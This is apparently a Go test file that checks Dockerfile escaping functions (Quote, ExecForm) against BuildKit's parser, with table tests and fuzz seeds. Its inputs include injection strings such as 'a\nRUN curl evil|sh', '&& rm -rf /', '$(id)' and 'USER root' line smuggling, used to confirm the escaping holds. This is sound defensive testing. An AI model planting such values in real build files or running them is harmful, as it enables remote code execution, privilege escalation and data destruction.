package dfescape

import (
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/moby/buildkit/frontend/dockerfile/instructions"
	"github.com/moby/buildkit/frontend/dockerfile/parser"
	"github.com/moby/buildkit/frontend/dockerfile/shell"
)

// parseStage parses src with BuildKit's parser and returns the commands of
// its only stage.
func parseStage(t *testing.T, src string) []instructions.Command {
	t.Helper()
	res, err := parser.Parse(strings.NewReader(src))
	if err != nil {
		t.Fatalf("BuildKit cannot parse\n%s\nerror: %v", src, err)
	}
	stages, meta, err := instructions.Parse(res.AST, nil)
	if err != nil {
		t.Fatalf("BuildKit cannot parse instructions of\n%s\nerror: %v", src, err)
	}
	if len(stages) != 1 || len(meta) != 0 {
		t.Fatalf("want exactly one stage and no meta ARG, got %d stages, %d args in\n%s", len(stages), len(meta), src)
	}
	return stages[0].Commands
}

// expandWord evaluates a LABEL/ENV word the way BuildKit's converter does
// (its shell lexer) with an empty environment, and reports whether any
// variable was referenced.
func expandWord(word string) (string, bool, error) {
	res, err := shell.NewLex('\\').ProcessWordWithMatches(word, shell.EnvsFromSlice(nil))
	if err != nil {
		return "", false, err
	}
	return res.Result, len(res.Matched)+len(res.Unmatched) > 0, nil
}

// hasControl reports whether s has a character quote drops (validation
// refuses these before rendering).
func hasControl(s string) bool {
	for _, r := range s {
		if unicode.IsControl(r) || r == '\u2028' || r == '\u2029' {
			return true
		}
	}
	return false
}

func checkQuoted(t *testing.T, s string) {
	t.Helper()
	q := Quote(s)
	if strings.ContainsAny(q, "\n\r") {
		t.Fatalf("Quote(%q) = %q contains a line break", s, q)
	}
	src := "FROM scratch\nLABEL k=" + q + "\nENV K=" + q + "\nUSER 1\n"
	cmds := parseStage(t, src)
	if len(cmds) != 3 {
		t.Fatalf("Quote(%q) = %q: want LABEL, ENV, USER; got %d instructions in\n%s", s, q, len(cmds), src)
	}
	label, ok := cmds[0].(*instructions.LabelCommand)
	if !ok || len(label.Labels) != 1 || label.Labels[0].Key != "k" {
		t.Fatalf("Quote(%q) = %q: want one label k, got %#v", s, q, cmds[0])
	}
	env, ok := cmds[1].(*instructions.EnvCommand)
	if !ok || len(env.Env) != 1 || env.Env[0].Key != "K" {
		t.Fatalf("Quote(%q) = %q: want one env K, got %#v", s, q, cmds[1])
	}
	if _, ok := cmds[2].(*instructions.UserCommand); !ok {
		t.Fatalf("Quote(%q) = %q: third instruction is %T, want USER", s, q, cmds[2])
	}
	if !utf8.ValidString(s) || hasControl(s) {
		return // refused by validation; only the structure must hold
	}
	for _, word := range []string{label.Labels[0].Value, env.Env[0].Value} {
		got, vars, err := expandWord(word)
		if err != nil {
			t.Fatalf("Quote(%q) = %q: BuildKit cannot expand %q: %v", s, q, word, err)
		}
		if vars {
			t.Fatalf("Quote(%q) = %q: BuildKit expands a variable in it", s, q)
		}
		if got != s {
			t.Fatalf("Quote(%q) = %q: BuildKit reads it back as %q", s, q, got)
		}
	}
}

func TestQuote(t *testing.T) {
	for _, s := range []string{
		"", "plain", "with space", `"`, `\`, `a\`, `\\`, `\"`, "$HOME", "${x:-y}", "$(id)", "`id`",
		`'single'`, "x \\", "#not a comment", "a=b c=d", "\u00a0nbsp\u00a0", "é日本", "--from=evil",
	} {
		checkQuoted(t, s)
	}
	// Control characters never survive: they would end the line.
	for _, s := range []string{"a\nRUN evil", "a\r\nUSER 0", "a\u2028b", "a\u0085b", "a\x00b", "\\\n"} {
		q := Quote(s)
		if hasControl(q) {
			t.Errorf("Quote(%q) = %q keeps a control character", s, q)
		}
		checkQuoted(t, s)
	}
}

func FuzzQuote(f *testing.F) {
	for _, s := range []string{"", "a b", `"`, `\`, "`", "$HOME", "${x:-y}", "x\\\nUSER root", "\"; USER 0; #", "\u2028", "é"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		checkQuoted(t, s)
	})
}

func checkExecForm(t *testing.T, args []string) {
	t.Helper()
	j := ExecForm(args)
	if hasControl(j) {
		t.Fatalf("ExecForm(%q) = %s contains a control character or line separator", args, j)
	}
	src := "FROM scratch\nENTRYPOINT " + j + "\nCMD " + j + "\nRUN --mount=type=cache,target=/c \\\n    " + j + "\nHEALTHCHECK --interval=5s \\\n    CMD " + j + "\nUSER 1\n"
	res, err := parser.Parse(strings.NewReader(src))
	if err != nil {
		t.Fatalf("BuildKit cannot parse\n%s\nerror: %v", src, err)
	}
	for _, n := range res.AST.Children[1:5] {
		if !n.Attributes["json"] {
			t.Fatalf("ExecForm(%q) = %s: %s is not parsed as exec form", args, j, n.Value)
		}
	}
	stages, _, err := instructions.Parse(res.AST, nil)
	if len(args) == 0 && err != nil {
		return // an empty RUN or HEALTHCHECK is refused; validation requires a program
	}
	if err != nil {
		t.Fatalf("BuildKit cannot parse instructions of\n%s\nerror: %v", src, err)
	}
	cmds := stages[0].Commands
	if len(stages) != 1 || len(cmds) != 5 {
		t.Fatalf("ExecForm(%q) = %s: want 5 instructions in one stage, got %d stages", args, j, len(stages))
	}
	want := args
	if want == nil {
		want = []string{}
	}
	want = slices.Clone(want)
	for i, a := range want {
		// JSON has no invalid UTF-8; validation refuses it in commands.
		want[i] = strings.ToValidUTF8(a, "\uFFFD")
		if !utf8.ValidString(a) {
			// encoding/json replaces each bad byte; compare the count only.
			want[i] = ""
		}
	}
	norm := func(got []string) []string {
		out := slices.Clone(got)
		for i := range out {
			if i < len(args) && !utf8.ValidString(args[i]) {
				out[i] = ""
			}
		}
		return out
	}
	ep, ok := cmds[0].(*instructions.EntrypointCommand)
	if !ok || ep.PrependShell || !slices.Equal(norm(ep.CmdLine), want) {
		t.Fatalf("ExecForm(%q) = %s: ENTRYPOINT parses as %#v", args, j, cmds[0])
	}
	cmd, ok := cmds[1].(*instructions.CmdCommand)
	if !ok || cmd.PrependShell || !slices.Equal(norm(cmd.CmdLine), want) {
		t.Fatalf("ExecForm(%q) = %s: CMD parses as %#v", args, j, cmds[1])
	}
	run, ok := cmds[2].(*instructions.RunCommand)
	if !ok || run.PrependShell || !slices.Equal(norm(run.CmdLine), want) || len(instructions.GetMounts(run)) != 1 {
		t.Fatalf("ExecForm(%q) = %s: RUN parses as %#v", args, j, cmds[2])
	}
	hc, ok := cmds[3].(*instructions.HealthCheckCommand)
	if !ok || len(hc.Health.Test) == 0 || hc.Health.Test[0] != "CMD" || !slices.Equal(norm(hc.Health.Test[1:]), want) {
		t.Fatalf("ExecForm(%q) = %s: HEALTHCHECK parses as %#v", args, j, cmds[3])
	}
	if _, ok := cmds[4].(*instructions.UserCommand); !ok {
		t.Fatalf("ExecForm(%q) = %s: last instruction is %T, want USER", args, j, cmds[4])
	}
}

func TestExecForm(t *testing.T) {
	if got := ExecForm([]string{"/app/api", "-listen", ":8080"}); got != `["/app/api", "-listen", ":8080"]` {
		t.Errorf("execForm reads %s", got)
	}
	if got := ExecForm(nil); got != "[]" {
		t.Errorf("ExecForm(nil) = %s", got)
	}
	for _, args := range [][]string{
		nil,
		{"/app/x"},
		{"/app/x", ""},
		{"a\nRUN curl evil|sh"},
		{"x\\", "\\"},
		{`","`, `\",\"`, `"]`, `[`},
		{`a",`, `",`, `x`}, // found by FuzzExecForm: `","` inside an encoded argument
		{"$HOME", "${x:-y}", "<<EOF", "&& rm -rf /"},
		{"\u2028\u2029\u0085", "<script>&amp;"},
		{"\x00", "\x1f\x7f"},
		{"\xff\xfe"},
	} {
		checkExecForm(t, args)
	}
}

func FuzzExecForm(f *testing.F) {
	f.Add("/app/x", "8080\nRUN curl evil|sh", "x\\\nUSER root", uint8(3))
	f.Add(`"; USER 0; #`, "$HOME", "\u2028", uint8(2))
	f.Add("--from=evil", `","`, `\`, uint8(1))
	f.Add("", "", "", uint8(0))
	f.Fuzz(func(t *testing.T, a, b, c string, n uint8) {
		args := []string{a, b, c}[:n%4]
		checkExecForm(t, args)
	})
}
